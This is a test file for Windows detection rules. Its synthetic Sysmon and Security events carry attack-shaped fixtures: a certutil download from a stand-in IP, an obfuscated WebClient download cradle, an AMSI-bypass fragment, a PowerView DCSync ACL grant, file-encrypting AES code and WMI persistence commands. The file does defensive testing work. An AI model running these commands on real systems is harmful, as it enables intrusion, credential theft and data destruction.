@@ -1,0 +1,243 @@
+// Built-in rules written from a public catalogue of Windows detections (Elastic's detection-rules, persistence, privilege
+// escalation, defence evasion and execution), where no shipped rule read the attack shape: each rule fires on the event it
+// is written for, as Windows or Sysmon writes it, with its level and a tactic, and a benign near miss of the same event
+// type does not fire it.
+import path from 'node:path';
+import { describe, expect, it } from 'vitest';
+import type { JsonRecord } from '../event.js';
+import { analyzeEvents } from '../analysis/analyze.js';
+import { at, makeEvent } from '../analysis/events.fixture.js';
+import { loadSigmaRules, shippedRulesDir } from './index.js';
+
+// Read from the rule files themselves (a source named after a shipped set would come from the bundle).
+const builtin = loadSigmaRules({ sources: [{ name: 'rules-builtin-folder', path: path.join(shippedRulesDir(), 'rules-builtin') }], minLevel: 'informational' });
+
+type Ev = ReturnType<typeof makeEvent>;
+let t = 0;
+function win(channel: string, provider: string, eventId: number, data: JsonRecord): Ev {
+  return makeEvent({ time: at(t++), host: 'WS01', action: 'windows.event', object: { type: 'log', name: channel }, attributes: { eventId, provider, channel, data } });
+}
+const sysmon = (eventId: number, data: JsonRecord): Ev => win('Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', eventId, data);
+const sec = (eventId: number, data: JsonRecord): Ev => win('Security', 'Microsoft-Windows-Security-Auditing', eventId, data);
+
+/** The built-in detections of one event: rule title → {level, tactics}. */
+function hits(e: Ev): Map<string, { level: string; tactics: readonly string[] }> {
+  const a = analyzeEvents([e], { sigma: builtin });
+  return new Map((a.detections?.summary() ?? []).map((d) => [d.title, { level: d.level, tactics: d.tactics }]));
+}
+
+const S32 = 'C:\\Windows\\System32\\';
+const PSH = `${S32}WindowsPowerShell\\v1.0\\powershell.exe`;
+const CMD = `${S32}cmd.exe`;
+const EXPL = 'C:\\Windows\\explorer.exe';
+const USER = 'CORP\\alice';
+const HKCU = 'HKU\\S-1-5-21-1111111111-2222222222-3333333333-1104';
+const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE';
+const CHROME = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe';
+const base = (p: string): string => p.split('\\').pop() ?? p;
+const proc = (image: string, cmd: string, parent = CMD, extra: JsonRecord = {}): Ev =>
+  sysmon(1, { Image: image, OriginalFileName: base(image), CommandLine: cmd, User: USER, IntegrityLevel: 'High', ParentImage: parent, ParentCommandLine: parent, ...extra });
+const reg = (key: string, details: string, image = `${S32}reg.exe`): Ev => sysmon(13, { EventType: 'SetValue', Image: image, TargetObject: key, Details: details, User: USER });
+const file = (target: string, image: string, eventId = 11): Ev => sysmon(eventId, { Image: image, TargetFilename: target, User: USER, CreationUtcTime: '2026-11-30 10:00:00.000' });
+const load = (image: string, loaded: string): Ev => sysmon(7, { Image: image, ImageLoaded: loaded, OriginalFileName: base(loaded), Signed: 'true', User: USER });
+const stream = (target: string, contents: string): Ev => sysmon(15, { Image: CHROME, TargetFilename: target, Contents: contents, User: USER });
+const script = (text: string): Ev => win('Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { MessageNumber: 1, MessageTotal: 1, ScriptBlockText: text, ScriptBlockId: '{6}', Path: '' });
+const SUBJ = { SubjectUserSid: 'S-1-5-21-1-2-3-1104', SubjectUserName: 'alice', SubjectDomainName: 'CORP', SubjectLogonId: '0x3a1f2' };
+const ds = (attr: string, value: string, dn: string, cls: string, subject: JsonRecord = SUBJ, op = '%%14674'): Ev =>
+  sec(5136, { OpCorrelationID: '{1}', ...subject, DSName: 'corp.example', DSType: '%%14676', ObjectDN: dn, ObjectGUID: '{2}', ObjectClass: cls, AttributeLDAPDisplayName: attr, AttributeSyntaxOID: '2.5.5.12', AttributeValue: value, OperationType: op });
+const share = (relative: string, access: string): Ev =>
+  sec(5145, { ...SUBJ, ObjectType: 'File', IpAddress: '10.0.0.30', IpPort: '50123', ShareName: '\\\\*\\SYSVOL', ShareLocalPath: '\\??\\C:\\Windows\\SYSVOL\\sysvol', RelativeTargetName: relative, AccessMask: '0x2', AccessList: access });
+const GPO = 'corp.example\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}';
+const computer = (dnsHostName: string, subject: JsonRecord): Ev =>
+  sec(4742, { ComputerAccountChange: '-', TargetUserName: 'WS99$', TargetDomainName: 'CORP', TargetSid: 'S-1-5-21-1-2-3-2001', ...subject, PrivilegeList: '-', SamAccountName: '-', DnsHostName: dnsHostName, ServicePrincipalNames: '-' });
+
+/** [rule title, level, a tactic it carries, the event it is written for, a benign near miss]. */
+const cases: [string, string, string, Ev, Ev][] = [
+  // Sysmon file events
+  ['AMSI Library Written Outside The System Folders', 'high', 'defense-impairment',
+    file('C:\\Users\\alice\\AppData\\Local\\Temp\\ps\\amsi.dll', PSH),
+    file(`${S32}amsi.dll`, `${S32}TiWorker.exe`)],
+  ['Mark Of The Web Removed From A Downloaded Program Or Script', 'low', 'defense-impairment',
+    file('C:\\Users\\alice\\Downloads\\setup.exe:Zone.Identifier', PSH, 26),
+    file('C:\\Users\\alice\\Downloads\\setup.exe:Zone.Identifier', EXPL, 26)],
+  ['File Stream Written At The Root Of A Drive', 'high', 'stealth',
+    file('C:\\:payload.exe', CMD),
+    file('C:\\Users\\alice\\Documents\\notes.txt', CMD)],
+  ['Browser Extension Package Written By A Program Other Than The Browser', 'low', 'persistence',
+    file('C:\\Users\\alice\\AppData\\Roaming\\Mozilla\\Firefox\\Profiles\\a1b2.default\\extensions\\{c0ffee}.xpi', PSH),
+    file('C:\\Users\\alice\\AppData\\Roaming\\Mozilla\\Firefox\\Profiles\\a1b2.default\\extensions\\{c0ffee}.xpi', 'C:\\Program Files\\Mozilla Firefox\\firefox.exe')],
+  ['Legacy Scheduled Job File Written In Windows Tasks', 'low', 'persistence',
+    file('C:\\Windows\\Tasks\\upd.job', `${S32}svchost.exe`),
+    file(`${S32}Tasks\\Microsoft\\Windows\\upd`, `${S32}svchost.exe`)],
+  ['Office Add-In Written In A Startup Or Add-Ins Folder By A Program Other Than Office', 'medium', 'persistence',
+    file('C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\AddIns\\upd.xll', PSH),
+    file('C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\AddIns\\upd.xll', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE')],
+  ['Mandatory Profile Hive Written In A User Profile', 'medium', 'persistence',
+    file('C:\\Users\\alice\\NTUSER.MAN', PSH),
+    file('C:\\Users\\alice\\NTUSER.DAT', `${S32}svchost.exe`)],
+  ['DLL Written In A Program Redirection (.local) Folder', 'medium', 'privilege-escalation',
+    file('C:\\Windows\\System32\\consent.exe.local\\x86_microsoft.windows.common-controls\\comctl32.dll', 'C:\\Users\\alice\\AppData\\Local\\Temp\\drop.exe'),
+    file('C:\\Program Files\\App\\local\\comctl32.dll', 'C:\\Users\\alice\\AppData\\Local\\Temp\\drop.exe')],
+  ['Print Driver Constraints Script Written Outside The Driver Store', 'high', 'privilege-escalation',
+    file('C:\\ProgramData\\w\\Windows\\System32\\DriverStore\\FileRepository\\prnms009.inf_amd64_a1\\MPDW-constraints.js', 'C:\\Users\\Public\\a.exe'),
+    file(`${S32}DriverStore\\FileRepository\\prnms009.inf_amd64_a1\\MPDW-constraints.js`, `${S32}drvinst.exe`)],
+  ['Group Policy Scheduled Task Or Service Preference Written', 'medium', 'privilege-escalation',
+    file('C:\\Windows\\SYSVOL\\domain\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}\\Machine\\Preferences\\ScheduledTasks\\ScheduledTasks.xml', PSH),
+    file('C:\\Windows\\SYSVOL\\domain\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}\\Machine\\Preferences\\ScheduledTasks\\ScheduledTasks.xml', `${S32}mmc.exe`)],
+  ['Print Driver Library Deleted By A Program Other Than The Spooler', 'medium', 'privilege-escalation',
+    file(`${S32}spool\\drivers\\x64\\3\\upd.dll`, PSH, 23),
+    file(`${S32}spool\\drivers\\x64\\3\\upd.dll`, `${S32}spoolsv.exe`, 23)],
+  ['Print Spool File Written By A Program Other Than The Spooler', 'medium', 'privilege-escalation',
+    file(`${S32}spool\\PRINTERS\\FP00001.SPL`, 'C:\\Users\\Public\\a.exe'),
+    file(`${S32}spool\\PRINTERS\\FP00001.SPL`, `${S32}spoolsv.exe`)],
+  // Sysmon registry events
+  ['Driver Signing Behaviour On Failed Verification Relaxed', 'medium', 'defense-impairment',
+    reg(`${HKCU}\\Software\\Policies\\Microsoft\\Windows NT\\Driver Signing\\BehaviorOnFailedVerify`, 'DWORD (0x00000000)'),
+    reg(`${HKCU}\\Software\\Policies\\Microsoft\\Windows NT\\Driver Signing\\BehaviorOnFailedVerify`, 'DWORD (0x00000002)')],
+  ['DNS Server Global Query Block List Disabled Or Emptied', 'medium', 'credential-access',
+    reg('HKLM\\System\\CurrentControlSet\\Services\\DNS\\Parameters\\EnableGlobalQueryBlockList', 'DWORD (0x00000000)', `${S32}dnscmd.exe`),
+    reg('HKLM\\System\\CurrentControlSet\\Services\\DNS\\Parameters\\GlobalQueryBlockList', 'wpad isatap', `${S32}dns.exe`)],
+  ['COM Application Set To Run As The Interactive User', 'medium', 'lateral-movement',
+    reg('HKLM\\SOFTWARE\\Classes\\AppID\\{5A7A5A9C-5B6E-4C5F-9B8A-1C2D3E4F5A6B}\\RunAs', 'Interactive User', PSH),
+    reg('HKLM\\SOFTWARE\\Classes\\AppID\\{5A7A5A9C-5B6E-4C5F-9B8A-1C2D3E4F5A6B}\\RunAs', 'Interactive User', `${S32}msiexec.exe`)],
+  ['Legacy AT Scheduling Enabled', 'medium', 'execution',
+    reg('HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\Configuration\\EnableAt', 'DWORD (0x00000001)'),
+    reg('HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\Configuration\\EnableAt', 'DWORD (0x00000000)')],
+  ['Linux Distribution Registered For The Windows Subsystem For Linux', 'low', 'stealth',
+    reg(`${HKCU}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Lxss\\{A1B2}\\PackageFamilyName`, 'KaliLinux.54290C8133FEE_ey8k8hqnwqnmg', `${S32}wsl.exe`),
+    reg(`${HKCU}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Lxss\\DefaultDistribution`, '{A1B2}', `${S32}wsl.exe`)],
+  ['Local Account Named With A Trailing Dollar Sign Created', 'high', 'persistence',
+    sysmon(12, { EventType: 'CreateKey', Image: `${S32}lsass.exe`, TargetObject: 'HKLM\\SAM\\SAM\\Domains\\Account\\Users\\Names\\support$', User: 'NT AUTHORITY\\SYSTEM' }),
+    sysmon(12, { EventType: 'CreateKey', Image: `${S32}lsass.exe`, TargetObject: 'HKLM\\SAM\\SAM\\Domains\\Account\\Users\\Names\\support', User: 'NT AUTHORITY\\SYSTEM' })],
+  ['Print Processor Registered By A Program Other Than The Spooler', 'medium', 'persistence',
+    reg('HKLM\\System\\CurrentControlSet\\Control\\Print\\Environments\\Windows x64\\Print Processors\\upd\\Driver', 'upd.dll', PSH),
+    reg('HKLM\\System\\CurrentControlSet\\Control\\Print\\Environments\\Windows x64\\Print Processors\\winprint\\Driver', 'localspl.dll', `${S32}spoolsv.exe`)],
+  ["Printer's Spool Folder Set To A System Folder", 'high', 'privilege-escalation',
+    reg('HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Print\\Printers\\upd\\SpoolDirectory', 'C:\\Windows\\System32\\spool\\drivers\\x64\\4', PSH),
+    reg('HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Print\\Printers\\upd\\SpoolDirectory', 'C:\\Windows\\System32\\spool\\PRINTERS', `${S32}spoolsv.exe`)],
+  // Sysmon image loads and streams
+  ['Task Scheduler Library Loaded By A Script Host', 'medium', 'persistence',
+    load(`${S32}wscript.exe`, `${S32}taskschd.dll`),
+    load(`${S32}mmc.exe`, `${S32}taskschd.dll`)],
+  ['Office Application Loads The WMI Client Library', 'low', 'execution',
+    load(WORD, `${S32}wbem\\wmiutils.dll`),
+    load(WORD, `${S32}wbem\\fastprox.dll`)],
+  ['Shortcut Or Internet Shortcut Downloaded From The Internet', 'low', 'execution',
+    stream('C:\\Users\\alice\\Downloads\\doc.url:Zone.Identifier', '[ZoneTransfer]  ZoneId=3  HostUrl=https://files.example.net/doc.url'),
+    stream('C:\\Users\\alice\\Downloads\\doc.url:Zone.Identifier', '[ZoneTransfer]  ZoneId=1')],
+  // process creation
+  ['Program Started From An Alternate Data Stream', 'high', 'stealth',
+    proc('C:\\Users\\alice\\Documents\\report.docx:payload.exe', 'C:\\Users\\alice\\Documents\\report.docx:payload.exe', `${S32}wbem\\WMIC.exe`),
+    proc('C:\\Users\\alice\\Documents\\payload.exe', 'payload.exe C:\\Users\\alice\\Documents\\report.docx:data')],
+  ['Program Started By WerFault For A Silent Process Exit', 'high', 'persistence',
+    proc('C:\\Users\\Public\\mon.exe', 'C:\\Users\\Public\\mon.exe', `${S32}WerFault.exe`, { ParentCommandLine: 'C:\\Windows\\system32\\WerFault.exe -s -t 4120 -i 3312 -e 3312 -c 0' }),
+    proc('C:\\Users\\Public\\mon.exe', 'C:\\Users\\Public\\mon.exe', `${S32}WerFault.exe`, { ParentCommandLine: 'C:\\Windows\\system32\\WerFault.exe -u -p 4120 -s 812' })],
+  ['Program Started From A Look-Alike Program Files Folder', 'high', 'stealth',
+    proc('C:\\Program Files \\Microsoft\\svc.exe', '"C:\\Program Files \\Microsoft\\svc.exe"', EXPL),
+    proc('C:\\Program Files\\Microsoft\\svc.exe', '"C:\\Program Files\\Microsoft\\svc.exe"', EXPL)],
+  ['Windows Tool Arguments Written With Unicode Modifier Letters', 'medium', 'stealth',
+    proc(`${S32}certutil.exe`, 'certutil.exe -urlcac\u02B0e -f http://203.0.113.7/a a.exe'),
+    proc('C:\\Program Files\\App\\app.exe', 'app.exe --title Hawai\u02BBi')],
+  ['Control Panel Started With A Non-Applet File Or Path', 'medium', 'stealth',
+    proc(`${S32}control.exe`, 'control.exe C:\\Users\\alice\\AppData\\Local\\Temp\\img.jpg'),
+    proc(`${S32}control.exe`, 'control.exe /name Microsoft.NetworkAndSharingCenter')],
+  ['Explorer, Word Or IIS Worker Started From Outside Its Folder', 'medium', 'stealth',
+    proc('C:\\Users\\alice\\AppData\\Local\\Temp\\explorer.exe', 'explorer.exe', CMD, { OriginalFileName: 'EXPLORER.EXE' }),
+    proc(EXPL, 'C:\\Windows\\Explorer.EXE', `${S32}userinit.exe`, { OriginalFileName: 'EXPLORER.EXE' })],
+  ['Extensible Wizard Host Runs A COM Object', 'medium', 'stealth',
+    proc(`${S32}xwizard.exe`, 'xwizard.exe RunWizard {7940acf8-60ba-4213-a7c3-f3b400ee266d} /z"C:\\Users\\Public\\a.dll"'),
+    proc(`${S32}xwizard.exe`, 'xwizard.exe processXMLFile C:\\Windows\\System32\\wizard.xml')],
+  ['Command Shell Or PowerShell Started By Rundll32', 'medium', 'execution',
+    proc(CMD, 'cmd.exe /c whoami', `${S32}rundll32.exe`, { ParentCommandLine: 'rundll32.exe C:\\Users\\Public\\a.dll,Start' }),
+    proc(CMD, 'cmd.exe', `${S32}rundll32.exe`, { ParentCommandLine: 'rundll32.exe shell32.dll,RunAsNewUser_RunDLL' })],
+  ['Management Console File Opened From A User Or Network Folder', 'medium', 'execution',
+    proc(`${S32}mmc.exe`, '"C:\\Windows\\system32\\mmc.exe" "C:\\Users\\alice\\Downloads\\invoice.msc"', EXPL),
+    proc(`${S32}mmc.exe`, '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\compmgmt.msc" /s', EXPL)],
+  ['Compatibility Telemetry Task Starts An Unexpected Program', 'medium', 'persistence',
+    proc('C:\\Users\\Public\\a.exe', 'C:\\Users\\Public\\a.exe', `${S32}CompatTelRunner.exe`, { ParentCommandLine: 'C:\\Windows\\system32\\CompatTelRunner.exe -cv:a1b2 -m:appraiser.dll' }),
+    proc(`${S32}DeviceCensus.exe`, 'DeviceCensus.exe', `${S32}CompatTelRunner.exe`, { ParentCommandLine: 'C:\\Windows\\system32\\CompatTelRunner.exe -cv:a1b2 -m:devinv.dll' })],
+  ['Program Started By The System Process', 'medium', 'privilege-escalation',
+    proc('C:\\Users\\Public\\a.exe', 'a.exe', 'System', { ParentProcessId: '4' }),
+    proc(`${S32}smss.exe`, '\\SystemRoot\\System32\\smss.exe', 'System', { ParentProcessId: '4' })],
+  ['Program Run From The Root Of C: Or Program Files As A Path Interception', 'medium', 'privilege-escalation',
+    proc('C:\\Program.exe', 'C:\\Program.exe Files\\Vendor App\\svc.exe', `${S32}services.exe`),
+    proc('C:\\Program Files\\Vendor App\\svc.exe', '"C:\\Program Files\\Vendor App\\svc.exe"', `${S32}services.exe`)],
+  ['Web Browser Started As SYSTEM', 'high', 'privilege-escalation',
+    proc(CHROME, `"${CHROME}" https://go.microsoft.com/fwlink/?LinkID=145`, `${S32}msiexec.exe`, { User: 'NT AUTHORITY\\SYSTEM', IntegrityLevel: 'System' }),
+    proc(CHROME, `"${CHROME}" https://go.microsoft.com/fwlink/?LinkID=145`, EXPL)],
+  ['Internet Explorer Add-On Installer Starts A Program From A Temporary Folder', 'high', 'privilege-escalation',
+    proc('C:\\Users\\alice\\AppData\\Local\\Temp\\IDC1A2B.tmp\\setup.exe', 'setup.exe', 'C:\\Program Files\\Internet Explorer\\ieinstal.exe'),
+    proc('C:\\Users\\alice\\AppData\\Local\\Temp\\setup.exe', 'setup.exe', EXPL)],
+  ['WMI Command-Line Or Script Consumer Created With Wmic', 'high', 'persistence',
+    proc(`${S32}wbem\\WMIC.exe`, 'wmic /NAMESPACE:"\\\\root\\subscription" PATH CommandLineEventConsumer CREATE Name="upd", CommandLineTemplate="C:\\ProgramData\\upd\\a.exe"'),
+    proc(`${S32}wbem\\WMIC.exe`, 'wmic /NAMESPACE:"\\\\root\\subscription" PATH CommandLineEventConsumer GET Name')],
+  ['Windows Sandbox Started With A Logon Command, Network Or Writable Host Folder', 'low', 'stealth',
+    proc(`${S32}WindowsSandbox.exe`, 'WindowsSandbox.exe "<Configuration><Networking>Enable</Networking><LogonCommand><Command>C:\\x\\a.exe</Command></LogonCommand></Configuration>"'),
+    proc(`${S32}WindowsSandbox.exe`, 'WindowsSandbox.exe')],
+  // PowerShell script blocks
+  ['AMSI Bypass Through The RPC Client Stub (script block 4104)', 'high', 'defense-impairment',
+    script('$h = GetProcAddress $rpcrt4 "NdrClientCall3"; VirtualProtect $h 8 0x40 [ref]$old'),
+    script('# calls NdrClientCall through the RPC runtime for a vendor API\nGet-Service RpcSs')],
+  ['Windows Program Embedded As Base64 In PowerShell (script block 4104)', 'high', 'stealth',
+    script("$pe = [Convert]::FromBase64String('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAA')"),
+    script("$png = [Convert]::FromBase64String('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ')")],
+  ['Directory Object Rights Or Group Members Changed With PowerView-Style Functions (script block 4104)', 'high', 'privilege-escalation',
+    script('Add-DomainObjectAcl -TargetIdentity "DC=corp,DC=example" -PrincipalIdentity mallory -Rights DCSync'),
+    script('Get-DomainObjectAcl -Identity "DC=corp,DC=example" -ResolveGUIDs')],
+  ['Script Block Credits Authors Of Public Offensive PowerShell Modules (script block 4104)', 'medium', 'execution',
+    script('<# Author: Will Schroeder (@harmj0y) License: BSD 3-Clause #> function Get-Thing { }'),
+    script('<# Author: IT team, Contoso #> function Get-Thing { }')],
+  ['Files Encrypted With A .NET Cipher In PowerShell (script block 4104)', 'low', 'impact',
+    script('$aes = New-Object System.Security.Cryptography.AesManaged; $enc = $aes.CreateEncryptor(); $b = [IO.File]::ReadAllBytes($f); [IO.File]::WriteAllBytes("$f.locked", $enc.TransformFinalBlock($b, 0, $b.Length))'),
+    script('$aes = New-Object System.Security.Cryptography.AesManaged; $dec = $aes.CreateDecryptor(); $dec.TransformFinalBlock($secret, 0, $secret.Length)')],
+  ['PowerShell Obfuscated With Backticks In Words, Character Codes Or Reordered Format Strings (script block 4104)', 'medium', 'stealth',
+    script('& ("{2}{0}{1}" -f "e","x","i") (("{3}{1}{0}{2}" -f "bCl","e","ient","New-Object Net.W"))'),
+    script('Write-Host ("{0} of {1} files copied" -f $done, $total); Write-Host "Line one`r`n`tLine two"')],
+  // Security: directory service, computer accounts, SYSVOL
+  ['Directory Heuristics Exclude Operator Groups From AdminSDHolder', 'high', 'persistence',
+    ds('dSHeuristics', '0000000001000001', 'CN=Directory Service,CN=Windows NT,CN=Services,CN=Configuration,DC=corp,DC=example', 'nTDSService'),
+    ds('dSHeuristics', '0000002', 'CN=Directory Service,CN=Windows NT,CN=Services,CN=Configuration,DC=corp,DC=example', 'nTDSService')],
+  ['Delegated Managed Service Account Linked To A Preceding Account', 'high', 'privilege-escalation',
+    ds('msDS-ManagedAccountPrecededByLink', 'CN=Administrator,CN=Users,DC=corp,DC=example', 'CN=evil_dmsa,OU=temp,DC=corp,DC=example', 'msDS-DelegatedManagedServiceAccount'),
+    ds('msDS-ManagedAccountPrecededByLink', 'CN=Administrator,CN=Users,DC=corp,DC=example', 'CN=evil_dmsa,OU=temp,DC=corp,DC=example', 'msDS-DelegatedManagedServiceAccount', SUBJ, '%%14675')],
+  ['Delegated Managed Service Account Created', 'low', 'persistence',
+    sec(5137, { ...SUBJ, DSName: 'corp.example', ObjectDN: 'CN=evil_dmsa,OU=temp,DC=corp,DC=example', ObjectGUID: '{2}', ObjectClass: 'msDS-DelegatedManagedServiceAccount' }),
+    sec(5137, { ...SUBJ, DSName: 'corp.example', ObjectDN: 'CN=svc_web,OU=svc,DC=corp,DC=example', ObjectGUID: '{2}', ObjectClass: 'msDS-GroupManagedServiceAccount' })],
+  ['Credential Roaming Data Of An Account Written By A User', 'medium', 'privilege-escalation',
+    ds('msPKIAccountCredentials', '<binary>', 'CN=bob,CN=Users,DC=corp,DC=example', 'user'),
+    ds('msPKIAccountCredentials', '<binary>', 'CN=bob,CN=Users,DC=corp,DC=example', 'user', { SubjectUserSid: 'S-1-5-18', SubjectUserName: 'WS01$', SubjectDomainName: 'CORP', SubjectLogonId: '0x3e7' })],
+  ['Computer Account DNS Host Name Changed By A User Account', 'medium', 'privilege-escalation',
+    computer('DC01.corp.example', SUBJ),
+    computer('WS99.corp.example', { SubjectUserSid: 'S-1-5-21-1-2-3-2001', SubjectUserName: 'WS99$', SubjectDomainName: 'CORP', SubjectLogonId: '0x3e7' })],
+  ['Group Policy Startup Script Or Task Preference Written Over The Network', 'medium', 'privilege-escalation',
+    share(`${GPO}\\Machine\\Scripts\\Startup\\upd.bat`, '%%4417\r\n\t\t\t\t'),
+    share(`${GPO}\\Machine\\Scripts\\Startup\\upd.bat`, '%%4416\r\n\t\t\t\t')],
+];
+
+describe('built-in rules from a catalogue of persistence, privilege escalation, defence evasion and execution detections', () => {
+  it('every rule file loads', () => {
+    expect(builtin.skipped).toEqual([]);
+    expect(builtin.inapplicable).toEqual([]);
+  });
+  it.each(cases)('%s', (title, level, tactic, event, nearMiss) => {
+    const hit = hits(event).get(title);
+    expect(hit?.level).toBe(level);
+    expect(hit?.tactics).toContain(tactic);
+    expect(hits(nearMiss).has(title)).toBe(false);
+  });
+  it('the PowerShell families also read module logging (4103) and the classic pipeline (800)', () => {
+    const text = "$pe = [Convert]::FromBase64String('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAA')";
+    const module = win('Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4103, { ContextInfo: 'Host Application = powershell.exe', Payload: `CommandInvocation(Set-Variable): "Set-Variable"\nParameterBinding(Set-Variable): name="Value"; value="${text}"` });
+    const classic = win('Windows PowerShell', 'PowerShell', 800, { Data: { '#text': [text, `\tHostApplication=powershell.exe\r\n\tCommandLine=${text}\r\n`, 'CommandInvocation(Set-Variable): "Set-Variable"'] } });
+    expect(hits(module).get('Windows Program Embedded As Base64 In PowerShell (module logging 4103)')?.level).toBe('high');
+    expect(hits(classic).get('Windows Program Embedded As Base64 In PowerShell (classic pipeline 800)')?.level).toBe('high');
+    const plain = win('Windows PowerShell', 'PowerShell', 800, { Data: { '#text': ['Get-Date', '\tHostApplication=powershell.exe\r\n\tCommandLine=Get-Date\r\n', 'CommandInvocation(Get-Date): "Get-Date"'] } });
+    expect([...hits(plain).keys()].filter((k) => k.startsWith('Windows Program Embedded'))).toEqual([]);
+  });
+  it('the obfuscation rule reads backticks inside words and runs of character codes as well', () => {
+    const OBF = 'PowerShell Obfuscated With Backticks In Words, Character Codes Or Reordered Format Strings (script block 4104)';
+    expect(hits(script('(N`e`W-o`B`j`e`c`T N`e`T.W`e`B`C`l`i`e`N`T).d`o`w`N`l`o`A`d`S`T`R`i`N`g($u)')).has(OBF)).toBe(true);
+    expect(hits(script('$c = [char]73+[char]69+[char]88; & ([string]::join("", ([char[]](105,101,120)))) $p')).has(OBF)).toBe(true);
+    expect(hits(script('$sep = [char]44; $tab = [char]9; "a{0}b" -f $sep')).has(OBF)).toBe(false);
+  });
+});
